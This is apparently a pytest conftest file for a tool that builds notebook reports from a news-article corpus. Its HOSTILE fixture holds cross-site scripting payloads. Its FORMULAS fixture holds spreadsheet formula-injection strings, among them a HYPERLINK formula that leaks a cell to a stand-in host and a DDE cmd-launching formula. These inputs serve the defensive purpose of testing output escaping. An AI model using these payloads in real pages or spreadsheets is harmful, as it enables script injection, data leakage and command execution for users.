"""Shared fixtures: the seed corpus, and small corpora the tests write themselves."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import subprocess
import sys
from concurrent.futures import Future, ThreadPoolExecutor
from pathlib import Path

import pytest

from helpers.paths import DEFAULT_CORPUS_DIR, NOTEBOOKS_DIR, PROJECT_ROOT

SEED_FILES = {
    "JTA": "000_d30445ea75725141.txt",
    "The Forward": "001_14dca963f3b2987e.txt",
    "Al Jazeera America": "002_5bac032dd11dfc2e.txt",
    "Al Jazeera English": "003_21caf42f95a01878.txt",
    "Washington Free Beacon": "004_db867419f4d342af.txt",
}


def tree_hashes(folder: Path) -> dict[str, str]:
    """Every file and symlink under ``folder`` (symlinked folders not followed): relative
    path -> sha256 of its bytes, or "-> target" for a link. Compare before and after to prove
    nothing in a folder changed."""
    out = {}
    for base, dirs, names in os.walk(folder):
        for name in dirs + names:
            path = Path(base) / name
            key = path.relative_to(folder).as_posix()
            if path.is_symlink():
                out[key] = "-> " + os.readlink(path)
            elif path.is_file():
                out[key] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def write_corpus(folder: Path, articles: list[dict], *, columns: list[str] | None = None) -> Path:
    """Write a corpus folder: one text file per article plus metadata.csv.

    Each dict needs ``file`` and ``text`` (str, or bytes written as is); every
    other key becomes a metadata column.
    """
    folder.mkdir(parents=True, exist_ok=True)
    rows = []
    for given in articles:
        art = dict(given)
        text = art.pop("text", None)
        if text is not None:
            path = folder / art["file"]
            path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
        rows.append(art)
    columns = columns or list(dict.fromkeys(k for row in rows for k in row))
    with open(folder / "metadata.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)
    return folder


SMALL_ARTICLES = [
    dict(
        file="a.txt", outlet="Daily Alpha", date="2024-05-01", headline="Council approves new budget",
        text=(
            "Council approves new budget\n\nBy Jane Roe\n\n"
            "SPRINGFIELD (Reuters) - The city council approved a $2 million budget on Tuesday, "
            "Mayor Ann Lee said.\n\n"
            "\u201cThis is a good day for Springfield,\u201d Lee told reporters. \u201cWe kept our promise.\u201d\n\n"
            "Critics said the budget cut too deep into parks.\n\n"
            "Reporting by Jane Roe; Editing by Tom Poe\n"
        ),
    ),
    dict(
        file="b.txt", outlet="Beta News", date="2024-05-02", headline="",
        text=(
            "The Springfield budget passed after a long debate, officials said.\n"
            "\"We will review every line,\" said council member Raj Patel.\n"
            "The budget takes effect in July.\n"
        ),
    ),
    dict(
        file="c.txt", outlet="Beta News", date="2024-05-03", headline="Parks groups object",
        text=(
            "Parks groups object to Springfield cuts\n"
            "Groups that run the city's parks said on Friday the cuts would close two pools.\n"
            "\"We were not consulted,\" said Maria Gomez of the Parks Alliance.\n"
        ),
    ),
]


@pytest.fixture(scope="session")
def seed_dir() -> Path:
    return DEFAULT_CORPUS_DIR


@pytest.fixture
def small_corpus(tmp_path: Path) -> Path:
    return write_corpus(tmp_path / "small", SMALL_ARTICLES)


# REPORT_NOTEBOOKS=DIR builds (and runs with its defaults) only the notebooks in DIR (for working on one notebook).
REPORT_NOTEBOOKS_DIR = os.environ.get("REPORT_NOTEBOOKS", str(NOTEBOOKS_DIR))
NOTEBOOK_ARGS = ["--notebooks", REPORT_NOTEBOOKS_DIR]


@pytest.fixture(scope="session")
def seed_report(tmp_path_factory):
    """The seed corpus's report, built once (in the background: see PREBUILT below)."""
    return prebuilt("seed_report", tmp_path_factory)


HOSTILE = dict(
    file="evil.txt", outlet="Evil <b>Outlet</b>", date="2024-05-04", headline="<script>alert('h')</script>",
    text=(
        "<script>alert('x')</script>\n"
        "The council met again, officials said <img src=x onerror=alert(1)> on Friday.\n"
        "Costs rose by $5 to $x$ and **bold** claims </table> were made, the mayor said.\n"
        "\"<script>document.title='PWNED'</script> is not a plan,\" said Ana Ruiz of <i>Watchdog</i>.\n"
        "Residents wrote <iframe src=javascript:alert(2)></iframe> and [a link](javascript:alert(3)) online.\n"
        "A long line follows: " + "x" * 12000 + " and " + "word " * 3000 + "end.\n"
        "The mayor said the budget would pass next week, and residents agreed.\n"
    ),
)


FORMULAS = dict(  # cells a spreadsheet would run, in every column that reaches a CSV
    file="formula.txt", outlet='=HYPERLINK("http://leak.test/?"&A1,"Daily Formula")', date="2024-05-05",
    headline="@SUM(1+1)*cmd|' /C calc'!A0",
    text=(
        "-2+3 was the vote count on the budget, the mayor said on Friday.\n\n"
        "=1+1 is what the council wrote in its budget, officials said.\n\n"
        "\"+44 20 7946 0000 is the number to call,\" said @Ana Ruiz of the council.\n\n"
        "The budget would pass next week, and residents agreed with the mayor.\n"
    ),
)


@pytest.fixture(scope="session")
def written_report(tmp_path_factory):
    """The small written corpus with hostile and formula text, built once with --no-code:
    (its corpus folder, its report folder)."""
    return prebuilt("written_report", tmp_path_factory)


@pytest.fixture(scope="session")
def browser():
    """One headless Chromium for every browser test (tests/test_browser.py says which and why;
    it skips when Chromium or Playwright is missing)."""
    from tests.test_browser import CHROMIUM, CHROMIUM_ARGS, sync_playwright

    with sync_playwright() as p:
        launched = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


# The edge corpora of tests/test_edge_corpora.py: two seed articles of one outlet (JTA).
ONE_OUTLET = [
    dict(file=name, outlet="JTA", date=date, text=(DEFAULT_CORPUS_DIR / name).read_text(encoding="utf-8"))
    for name, date in [(SEED_FILES["JTA"], "2014-04-03"), (SEED_FILES["Al Jazeera English"], "2014-03-31")]
]


NO_SENTENCES = dict(  # a saved page that is all furniture: cleaning keeps no sentence of it
    file="furniture.txt", outlet="JTA", date="2014-04-02",
    text="Share this article\nSign up for our weekly newsletter\nRelated News\n",
)


@pytest.fixture(scope="session")
def one_article_report(tmp_path_factory):
    """The report of a one-article corpus (the JTA seed), built once for every test that reads it."""
    return prebuilt("one_article_report", tmp_path_factory)


@pytest.fixture(scope="session")
def one_outlet_report(tmp_path_factory):
    """The report of a one-outlet corpus (two seeds, both JTA, and a page with no sentence)."""
    return prebuilt("one_outlet_report", tmp_path_factory)


@pytest.fixture(scope="session")
def grouped_report(tmp_path_factory):
    """The report of tests/group_corpus.py's corpus built with --group-by lean."""
    return prebuilt("grouped_report", tmp_path_factory)


@pytest.fixture(scope="session")
def default_runs(tmp_path_factory):
    """Every notebook run with its defaults from the repository root, each in its own kernel and
    folder (tests/default_runs.py): notebook file name -> (its folder, None or the error)."""
    return prebuilt("default_runs", tmp_path_factory)


@pytest.fixture(scope="session")
def offline_rebuild(tmp_path_factory, seed_report):
    """The seed report rebuilt, into a copy of it, by a build that cannot reach the network
    (tests/test_reproducible.py): (the copy, the finished build, its network-attempts log)."""
    return prebuilt("offline_rebuild", tmp_path_factory)


# Building the real notebooks is most of the suite's time, and a build keeps at most two cores
# busy only part of the time: while the tests that need no report run in this process, one
# thread builds the reports they will read, one after the other, each in a process of its own
# (`python -m helpers.report`, with the environment as the session started, so nothing a test
# patches reaches a build). The tests that read a report run after the others
# (pytest_collection_modifyitems). A fixture asked for but not queued is built when asked.
PREBUILT = ("written_report", "seed_report", "one_article_report", "one_outlet_report", "grouped_report",
            "offline_rebuild")
# Running every notebook with its defaults from the root (tests/test_notebooks.py) takes one core
# for half a minute: a thread of its own runs it beside the builds, so that it does not wait for
# them, nor they for it, at the end of the session.
BESIDE = ("default_runs",)
_QUEUE: dict[str, Future] = {}
_POOL = ThreadPoolExecutor(max_workers=1, thread_name_prefix="prebuild")
_BESIDE_POOL = ThreadPoolExecutor(max_workers=1, thread_name_prefix="default-runs")


def _build(corpus: Path, out: Path, *extra: str, env: dict | None = None) -> subprocess.CompletedProcess:
    """``python -m helpers.report`` on ``corpus`` into ``out`` in a process of its own."""
    args = [sys.executable, "-m", "helpers.report", "--corpus", str(corpus), "--out", str(out), *extra,
            *NOTEBOOK_ARGS]
    return subprocess.run(args, check=False, cwd=PROJECT_ROOT, env=env or dict(_SESSION_ENV),
                          capture_output=True, text=True, timeout=1800)


def _job(name: str, base: Path):
    """What ``name`` builds into ``base`` (a folder of its own), and the value its fixture returns."""
    if name == "seed_report":  # built through a link (see _offline_rebuild); the tests read the folder itself
        (base / "built").mkdir()
        (base / "out").symlink_to(base / "built")
        return _build(DEFAULT_CORPUS_DIR, base / "out" / "reports"), base / "built" / "reports"
    if name == "written_report":
        corpus = write_corpus(base / "corpus", [*SMALL_ARTICLES, HOSTILE, FORMULAS])
        return _build(corpus, base / "reports", "--no-code", *ONE_AT_A_TIME), (corpus, base / "reports")
    if name == "one_article_report":
        corpus = write_corpus(base / "corpus", ONE_OUTLET[:1])
        return _build(corpus, base / "reports", *ONE_AT_A_TIME), base / "reports"
    if name == "one_outlet_report":
        corpus = write_corpus(base / "corpus", [*ONE_OUTLET, NO_SENTENCES])
        return _build(corpus, base / "reports", *ONE_AT_A_TIME), base / "reports"
    if name == "grouped_report":
        from tests.group_corpus import write_group_corpus

        corpus = write_group_corpus(base / "corpus")
        return _build(corpus, base / "reports", "--group-by", "lean", *ONE_AT_A_TIME), base / "reports"
    return _offline_rebuild(base)


def _default_runs(base: Path):
    """Every notebook run with its defaults from the repository root (tests/default_runs.py), in
    a process of its own: notebook file name -> (its folder, None or the error)."""
    from tests.default_runs import ERRORS_FILE

    run = subprocess.run([sys.executable, "-m", "tests.default_runs", str(base), REPORT_NOTEBOOKS_DIR], check=False,
                         cwd=PROJECT_ROOT, env=dict(_SESSION_ENV), capture_output=True, text=True, timeout=1800)
    errors = json.loads((base / ERRORS_FILE).read_text(encoding="utf-8")) if run.returncode == 0 else {}
    return run, {name: (base / Path(name).stem, error) for name, error in errors.items()}


def _offline_rebuild(base: Path):
    """Rebuild a copy of the seed report with the network blocked (tests/test_reproducible.py).

    A page names the folder it was built into (``data_dir``), so the copy is rebuilt under the
    same name: the seed report was built into ``<seed>/out/reports`` with ``out`` a link to
    ``built``; the link is pointed at the copy for the rebuild, and back after. The tests read
    ``built`` itself, which nothing here writes."""
    from tests.test_reproducible import BLOCK_NETWORK

    seed = prebuilt("seed_report", None)
    link = _BASES["seed_report"] / "out"
    copy = base / "rebuilt"
    shutil.copytree(seed, copy / "reports", symlinks=True)
    hook = base / "hook"
    hook.mkdir()
    (hook / "sitecustomize.py").write_text(BLOCK_NETWORK)
    log = base / "attempts.log"
    env = dict(_SESSION_ENV, NETWORK_ATTEMPTS_LOG=str(log),
               PYTHONPATH=os.pathsep.join(filter(None, [str(hook), _SESSION_ENV.get("PYTHONPATH")])))
    _point(link, copy)
    try:
        run = _build(DEFAULT_CORPUS_DIR, link / "reports", env=env)
    finally:
        _point(link, seed.parent)
    return run, (copy / "reports", log)


def _point(link: Path, target: Path) -> None:
    """Make the symlink ``link`` point at ``target`` (replaced in one step)."""
    new = link.with_name(link.name + ".new")
    new.symlink_to(target)
    os.replace(new, link)


# The seed report and its offline rebuild run two notebooks at a time, as a user's build does
# (that path, and that two builds so made are identical, are checked there); the four other
# reports check what the pages say on their corpora, and run one notebook at a time in the
# build's own process: no two worker processes to start for each, and the thread's build keeps
# one core busy while this process's tests keep the other.
ONE_AT_A_TIME = ("--jobs", "1")
_SESSION_ENV = dict(os.environ)
_BASES: dict[str, Path] = {}


def _queue(name: str, factory) -> Future:
    if name not in _QUEUE:
        _BASES[name] = factory.mktemp(name.removesuffix("_report"))
        beside = name in BESIDE  # only default_runs
        _QUEUE[name] = _BESIDE_POOL.submit(_default_runs, _BASES[name]) if beside else _POOL.submit(
            _job, name, _BASES[name])
    return _QUEUE[name]


def prebuilt(name: str, factory):
    """Wait for ``name``'s build (queue it if nobody did) and return what its fixture gives."""
    run, value = _queue(name, factory).result()
    if name == "offline_rebuild":  # the test asserts on the build itself
        return (*value, run)
    assert run.returncode == 0, f"{name}: the build failed:\n{run.stderr[-3000:]}"
    return value


@pytest.hookimpl(trylast=True)  # after -k and -m have deselected what will not run
def pytest_collection_modifyitems(session, config, items):
    """Run the test files that read a built report last, and start building, in the order these
    files need them, the reports the collected tests ask for."""
    late = {item.module.__name__ for item in items if PREBUILT_NAMES & set(item.fixturenames)}
    items[:] = sorted(items, key=lambda item: item.module.__name__ in late)  # stable: the same order otherwise
    if config.option.collectonly:
        return
    wanted = [n for item in items for n in PREBUILT + BESIDE if n in item.fixturenames]
    if "offline_rebuild" in wanted:
        wanted.insert(wanted.index("offline_rebuild"), "seed_report")
    factory = session.config._tmp_path_factory  # what tmp_path_factory is, made before any test
    for name in dict.fromkeys(wanted):
        _queue(name, factory)


PREBUILT_NAMES = set(PREBUILT + BESIDE)


def pytest_sessionstart(session):
    """A run of the whole suite (no paths, -k, -m, --lf, --deselect or --sw) needs every build:
    start them now, while the tests are collected (about 10 s of one core), in the order
    pytest_collection_modifyitems would queue them."""
    config = session.config
    option = config.option
    narrowed = any(getattr(option, name, None) for name in ("keyword", "markexpr", "lf", "deselect", "stepwise"))
    if config.args_source != pytest.Config.ArgsSource.TESTPATHS or narrowed or option.collectonly:
        return
    for name in PREBUILT + BESIDE:
        _queue(name, config._tmp_path_factory)


def pytest_sessionfinish(session):
    """Drop the builds nobody waited for (a run stopped early by -x or Ctrl-C)."""
    for pool in (_POOL, _BESIDE_POOL):
        pool.shutdown(wait=True, cancel_futures=True)

